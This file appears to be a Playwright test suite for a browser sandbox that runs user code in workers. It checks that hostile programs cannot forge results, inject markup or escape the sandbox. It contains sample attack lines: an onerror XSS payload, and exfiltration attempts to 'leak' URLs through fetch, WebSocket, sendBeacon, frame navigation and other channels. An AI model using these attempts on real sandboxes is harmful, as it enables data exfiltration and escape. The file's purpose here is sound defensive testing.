import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type Cell, openCell } from './fixtures/cell.ts';
import { expect, test } from './fixtures/test.ts';
import { refuseDataWorkers, sandboxWorkers } from './fixtures/workers.ts';

/** Faults 11 to 18 and 20 to 22: what a hostile program tries, and what the page makes of its output. */

/** Runs attempts one by one; each logs '<name>: refused' or '<name>: ALLOWED'. */
async function attempt(cell: Cell, attempts: Record<string, string>): Promise<void> {
  const lines = Object.entries(attempts).map(
    ([name, code]) =>
      `try { await (async () => { ${code} })(); console.log(${JSON.stringify(`${name}: ALLOWED`)}); }
catch (error) { console.log(${JSON.stringify(`${name}: refused`)}, String(error)); }`,
  );
  await cell.runToEnd(lines.join('\n'));
  for (const name of Object.keys(attempts)) await expect(cell.console).toContainText(`${name}: refused`);
  await expect(cell.console).not.toContainText('ALLOWED');
}

test('200,000 messages are limited to what a page can show, and Stop acts meanwhile', async ({ page }) => {
  const cell = await openCell(page);
  await cell.run(`import { plot } from 'unrolled';
for (let i = 0; i < 200_000; i++) {
  console.log('line', i);
  plot.line('flood', i);
}
for (;;) console.log('more');`);
  await expect(cell.console).toContainText('Only the first 2,000 lines of a run are shown.');
  expect(await cell.stop()).toBeLessThan(1_000);
  await cell.runToEnd(`console.log('afterwards');`);
  await expect(cell.console).toContainText('afterwards');
});

test('a line of 100 MB and an object within itself are shown in bounds', async ({ page }) => {
  const cell = await openCell(page);
  await cell.runToEnd(`console.log('x'.repeat(100e6));
const loop = { name: 'loop' };
loop.self = loop;
console.log(loop);
console.log(new Proxy({}, { ownKeys() { throw new Error('no'); } }));
console.log(Array.from({ length: 1e6 }, (_, i) => ({ i })));`);
  await expect(cell.console).toContainText('more characters)');
  await expect(cell.console).toContainText("{ name: 'loop', self: [circular] }");
  await expect(cell.console).toContainText('cannot be shown');
  await expect(cell.console).toContainText('999900 more');
  expect((await cell.console.textContent())!.length).toBeLessThan(40_000);
});

test('markup in what a program says stays text', async ({ page }) => {
  const cell = await openCell(page);
  const markup = '<img src=x onerror="document.title=1"><b id="injected">bold</b>';
  await cell.runToEnd(
    `import { plot } from 'unrolled';
const markup = ${JSON.stringify(markup)};
console.log(markup);
plot.line(markup, { [markup]: 1 });
plot.text('sample', markup);
throw new Error(markup);`,
    'Failed',
  );
  await expect(cell.console).toContainText(markup);
  await expect(page.locator('#injected')).toHaveCount(0);
  await expect(page.locator('img[src=x]')).toHaveCount(0);
  expect(await page.title()).not.toBe('1');
});

test('a program cannot forge a result: not its end, not a passed exercise', async ({ page }) => {
  const cell = await openCell(page);
  await cell.run(`const forged = [
  { kind: 'done' }, { kind: 'exercise-passed' }, { kind: 'state', state: 'done' },
  { kind: 'batch', batch: { runId: '', events: [{ kind: 'exercise-passed' }] } },
  { kind: 'batch', batch: { runId: '', events: [{ kind: 'done' }] } },
  { kind: 'outputs', outputs: { passed: true } },
];
for (const message of forged) {
  for (const name of ['postMessage', 'webkitPostMessage']) {
    try { self[name](message); } catch {}
    try { Object.getPrototypeOf(self)[name].call(self, message); } catch {}
  }
  const { port1, port2 } = new MessageChannel();
  try { port1.postMessage(message, [port2]); } catch {}
  try { dispatchEvent(new MessageEvent('message', { data: message })); } catch {}
}
console.log('sent');
setInterval(() => {}, 1000);`);
  await expect(cell.console).toContainText('sent');
  await page.waitForTimeout(500);
  await cell.expectState('Running');
  await cell.stop();
});

test('messages from other windows and from an older run change nothing', async ({ page }) => {
  const cell = await openCell(page);
  await cell.run(`setInterval(() => console.log('from the first run'), 5);`);
  await expect(cell.console).toContainText('from the first run');
  await cell.run(`console.log('from the second run');
setInterval(() => {}, 1000);`);
  await expect(cell.console).toContainText('from the second run');
  await page.evaluate(() => {
    const stranger = document.createElement('iframe');
    document.body.append(stranger);
    const events = [{ kind: 'log', level: 'log', text: 'forged' }, { kind: 'done' }];
    for (const runId of ['', '1', '2']) {
      for (let workerId = 0; workerId < 6; workerId++) {
        const message = { kind: 'batch', workerId, batch: { runId, events } };
        window.postMessage(message, '*');
        for (const frame of document.querySelectorAll('iframe')) {
          const { port1, port2 } = new MessageChannel();
          frame.contentWindow?.postMessage(message, '*');
          frame.contentWindow?.postMessage({ kind: 'terminate', workerId }, '*', [port2]);
          port1.postMessage({ kind: 'terminate', workerId });
          port1.postMessage(message);
        }
      }
    }
    stranger.remove();
  });
  await page.waitForTimeout(500);
  await cell.expectState('Running');
  await expect(cell.console).not.toContainText('forged');
  await expect(cell.console).not.toContainText('from the first run');
  await cell.stop();
});

for (const scheme of ['data', 'blob'] as const) {
  test(`no request leaves a program in a ${scheme}: worker, by whatever door`, async ({
    page,
    context,
    baseURL,
  }) => {
    if (scheme === 'blob') await refuseDataWorkers(page);
    const hits: string[] = [];
    const stranger = createServer((request, response) => {
      hits.push(request.url!);
      response.setHeader('access-control-allow-origin', '*');
      response.end('export default 1');
    });
    await new Promise<void>(resolve => stranger.listen(0, '127.0.0.1', resolve));
    const { port } = stranger.address() as AddressInfo;
    context.on('response', response => hits.push(response.url()));
    const cell = await openCell(page);
    await cell.runToEnd('console.log(location.protocol);');
    await expect(cell.console).toContainText(`${scheme}:`);
    const doors = (origin: string): Record<string, string> => ({
      fetch: `await fetch('${origin}/leak-fetch', { mode: 'no-cors' });`,
      XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('GET', '${origin}/leak-xhr', false); x.send();`,
      WebSocket: `await new Promise((open, fail) => { const s = new WebSocket('${origin.replace('http', 'ws')}/leak-ws'); s.onopen = open; s.onerror = fail; });`,
      EventSource: `await new Promise((open, fail) => { const s = new EventSource('${origin}/leak-es'); s.onopen = open; s.onerror = fail; });`,
      WebTransport: `await new WebTransport('https://localhost:9/leak-wt').ready;`,
      'import()': `await import('${origin}/leak-' + 'import.js');`,
      'import() of data': `await import('data:text/javascript,' + 'export const leaked = 1');`,
      importScripts: `importScripts('${origin}/leak-scripts.js');`,
      sendBeacon: `if (!navigator.sendBeacon('${origin}/leak-beacon')) throw new Error('refused');`,
      FontFace: `await new FontFace('leak', 'url(${origin}/leak-font)').load();`,
      Worker: `await new Promise((open, fail) => { const w = new Worker('${origin}/leak-worker.js'); w.onmessage = open; w.onerror = fail; });`,
      'a function found again': `await Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, '${origin}/leak-again');`,
      eval: `(0, eval)("1");`,
      'new Function': `new Function('return 1')();`,
      'WebAssembly streaming': `await WebAssembly.compileStreaming(fetch('${origin}/leak.wasm'));`,
    });
    // Neither to a stranger nor to the site itself.
    await attempt(cell, doors(`http://127.0.0.1:${port}`));
    await attempt(cell, doors(new URL(baseURL!).origin));
    expect(hits.filter(url => url.includes('leak'))).toEqual([]);
    stranger.close();
  });
}

test('an import in the program’s text is refused before anything runs, at its line', async ({ page }) => {
  const cell = await openCell(page);
  await cell.runToEnd(
    `console.log('never');
import { x } from 'https://example.com/x.js';
console.log(x);`,
    'Failed',
  );
  await expect(cell.root).toContainText("cannot import 'https://example.com/x.js'");
  await expect(cell.root).toContainText(/line 2/i);
  await expect(cell.console).not.toContainText('never');
});

test.describe('the frame', () => {
  test.use({ expectedError: /Framing .* violates .*frame-src/ });

  test('cannot leak by navigating itself, and is replaced', async ({ page, foreignRequests }) => {
    const cell = await openCell(page);
    await cell.runToEnd(`console.log('warm');`);
    const frame = page.frames().find(candidate => candidate.parentFrame() !== null)!;
    await frame.evaluate(() => {
      location.href = 'http://127.0.0.1:9/leak?secret';
    });
    await expect.poll(() => page.frames().some(f => f.url().startsWith('chrome-error:'))).toBe(true);
    expect(foreignRequests).toEqual([]);
    // The watch finds the frame silent and puts a new one in its place.
    await expect
      .poll(() => page.frames().some(f => f.url().startsWith('chrome-error:')), { timeout: 15_000 })
      .toBe(false);
    await cell.runToEnd(`console.log('in the new frame');`);
    await expect(cell.console).toContainText('in the new frame');
  });
});

test('no storage is in reach', async ({ page }) => {
  const cell = await openCell(page);
  await attempt(cell, {
    indexedDB: `await new Promise((open, fail) => { const r = indexedDB.open('x'); r.onsuccess = open; r.onerror = fail; });`,
    caches: `await caches.open('x');`,
    localStorage: `localStorage.setItem('x', '1');`,
    sessionStorage: `sessionStorage.setItem('x', '1');`,
    'private files': `await navigator.storage.getDirectory();`,
    cookies: `await cookieStore.set('x', '1');`,
    locks: `await navigator.locks.request('x', () => {});`,
    BroadcastChannel: `new BroadcastChannel('x').postMessage(1);`,
  });
});

test('a program starts no workers of its own', async ({ page, browser }) => {
  const cell = await openCell(page);
  await cell.runToEnd(`console.log('warm');`);
  await cell.run(`let started = 0;
const source = 'data:text/javascript,setInterval(() => {}, 1)';
for (let i = 0; i < 500; i++) {
  for (const make of [() => new Worker(source), () => new SharedWorker(source), () => new self.Worker(source), () => new globalThis.Worker(URL.createObjectURL(new Blob([''])))]) {
    try { make(); started++; } catch {}
  }
}
console.log('started', started);
setInterval(() => {}, 1000);`);
  await expect(cell.console).toContainText('started 0');
  // The program's worker, and at most the spare for the next run.
  expect(await sandboxWorkers(browser)).toBeLessThanOrEqual(2);
  await cell.stop();
});

test('overwritten prototypes spoil their own run alone', async ({ page }) => {
  const cell = await openCell(page);
  await cell.run(`console.log('before');
for (const prototype of [Array.prototype, Map.prototype, Set.prototype, Promise.prototype, MessagePort.prototype, Function.prototype, String.prototype]) {
  for (const name of Object.getOwnPropertyNames(prototype)) {
    if (name === 'constructor') continue;
    try { Object.defineProperty(prototype, name, { value() { throw new Error('overwritten'); } }); } catch {}
  }
}
Object.prototype.kind = 'done';
self.setTimeout = self.performance = self.console = null;
throw new Error('after');`);
  await expect(cell.console).toContainText('before');
  const state = await cell.status.textContent();
  if (!/^(Failed|Done)/.test(state!)) expect(await cell.stop()).toBeLessThan(1_000);
  await cell.runToEnd(`console.log([1, 2].map(x => x + 1), typeof setTimeout);`);
  await expect(cell.console).toContainText('[2, 3] function');
});

test('a program that closes its worker is told how programs end', async ({ page }) => {
  const cell = await openCell(page);
  await cell.runToEnd(
    `console.log('before');
self.close();`,
    'Failed',
  );
  await expect(cell.root).toContainText('A program ends with its last line');
  await cell.runToEnd(`console.log('next');`);
});
